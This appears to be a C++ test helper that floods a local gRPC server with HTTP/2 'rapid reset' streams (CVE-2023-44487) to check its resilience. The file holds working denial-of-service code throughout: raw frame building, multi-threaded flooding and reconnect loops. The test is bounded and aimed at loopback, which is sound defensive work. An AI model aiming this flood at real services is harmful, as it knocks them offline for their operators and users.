// A hostile HTTP/2 client for tests: opens streams on a gRPC port with raw
// frames and resets each at once ("rapid reset", CVE-2023-44487), from a few
// connections, bounded in streams and time. No credentials: it never gets
// past the node's authentication, and does not need to.
#pragma once

#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include "raw_socket.h"

namespace strata::testing {

namespace http2 {

inline void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                        const std::string& payload) {
  const uint32_t len = static_cast<uint32_t>(payload.size());
  out->push_back(static_cast<char>(len >> 16));
  out->push_back(static_cast<char>(len >> 8));
  out->push_back(static_cast<char>(len));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  for (int shift : {24, 16, 8, 0}) out->push_back(static_cast<char>((stream >> shift) & 0x7f));
  *out += payload;
}

// HPACK "literal header field without indexing, new name" (short strings).
inline void AppendHeader(std::string* block, const std::string& name, const std::string& value) {
  block->push_back('\0');
  block->push_back(static_cast<char>(name.size()));
  *block += name;
  block->push_back(static_cast<char>(value.size()));
  *block += value;
}

inline std::string RequestHeaders(const std::string& path) {
  std::string block;
  AppendHeader(&block, ":method", "POST");
  AppendHeader(&block, ":scheme", "http");
  AppendHeader(&block, ":path", path);
  AppendHeader(&block, ":authority", "node");
  AppendHeader(&block, "content-type", "application/grpc");
  AppendHeader(&block, "te", "trailers");
  return block;
}

constexpr uint8_t kHeaders = 1, kRstStream = 3, kSettings = 4;
constexpr uint8_t kEndStream = 1, kEndHeaders = 4, kAck = 1;

}  // namespace http2

struct FloodResult {
  uint64_t streams = 0;      // opened and reset
  int connections_made = 0;  // flooders that got a connection at all
  uint64_t connections = 0;  // connections opened, reconnects included
};

// Floods one connection until the server closes it or a bound is reached.
inline void FloodOneConnection(int fd, const std::string& headers, const std::string& rst,
                               std::chrono::steady_clock::time_point until, uint64_t max_streams,
                               std::atomic<uint64_t>* streams) {
  std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  http2::AppendFrame(&hello, http2::kSettings, 0, 0, "");
  http2::AppendFrame(&hello, http2::kSettings, http2::kAck, 0, "");
  (void)send(fd, hello.data(), hello.size(), MSG_NOSIGNAL);
  uint32_t id = 1;
  char sink[65536];
  while (std::chrono::steady_clock::now() < until && streams->load() < max_streams) {
    std::string batch;
    for (int i = 0; i < 64; ++i, id += 2) {
      http2::AppendFrame(&batch, http2::kHeaders, http2::kEndHeaders, id, headers);
      http2::AppendFrame(&batch, http2::kRstStream, 0, id, rst);
    }
    size_t off = 0;
    while (off < batch.size() && std::chrono::steady_clock::now() < until) {
      pollfd p{fd, POLLOUT | POLLIN, 0};
      if (poll(&p, 1, 100) <= 0) continue;
      if ((p.revents & POLLIN) != 0 && recv(fd, sink, sizeof(sink), MSG_DONTWAIT) == 0) return;
      if ((p.revents & (POLLERR | POLLHUP)) != 0) return;
      if ((p.revents & POLLOUT) == 0) continue;
      const ssize_t n =
          send(fd, batch.data() + off, batch.size() - off, MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n <= 0) return;
      off += static_cast<size_t>(n);
    }
    if (off < batch.size()) return;
    *streams += 64;
  }
}

// Opens `connections` connections to 127.0.0.1:`port` and on each opens and
// resets streams (HEADERS + RST_STREAM(CANCEL), 64 per write) until
// `max_streams` in all or `duration` has passed, reading and dropping what
// the server sends; the server's SETTINGS are acknowledged.
inline FloodResult RapidResetFlood(int port, int connections, uint64_t max_streams,
                                   std::chrono::milliseconds duration) {
  const std::string path = "/strata.v1.CacheStore/Stats";
  const std::string headers = http2::RequestHeaders(path);
  std::string rst;
  rst.append("\0\0\0\x08", 4);  // CANCEL
  std::atomic<uint64_t> streams{0};
  std::atomic<int> made{0};
  std::atomic<uint64_t> reconnects{0};
  const auto until = std::chrono::steady_clock::now() + duration;
  std::vector<std::thread> threads;
  for (int c = 0; c < connections; ++c) {
    threads.emplace_back([&] {
      // A closed connection is opened again: the flood goes on until its
      // bounds, as an attacker's would.
      bool first = true;
      while (std::chrono::steady_clock::now() < until && streams.load() < max_streams) {
        const int fd = ConnectLoopback(port, /*recv_timeout_s=*/1);
        if (fd < 0) {
          std::this_thread::sleep_for(std::chrono::milliseconds(10));
          continue;
        }
        if (first) ++made;
        first = false;
        ++reconnects;
        FloodOneConnection(fd, headers, rst, until, max_streams, &streams);
        close(fd);
      }
    });
  }
  for (std::thread& t : threads) t.join();
  return {streams.load(), made.load(), reconnects.load()};
}

// Threads of process `pid` (Threads: in /proc/pid/status), 0 if unknown.
inline int ThreadCount(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  for (std::string line; std::getline(in, line);) {
    if (line.rfind("Threads:", 0) == 0) return std::stoi(line.substr(8));
  }
  return 0;
}

}  // namespace strata::testing
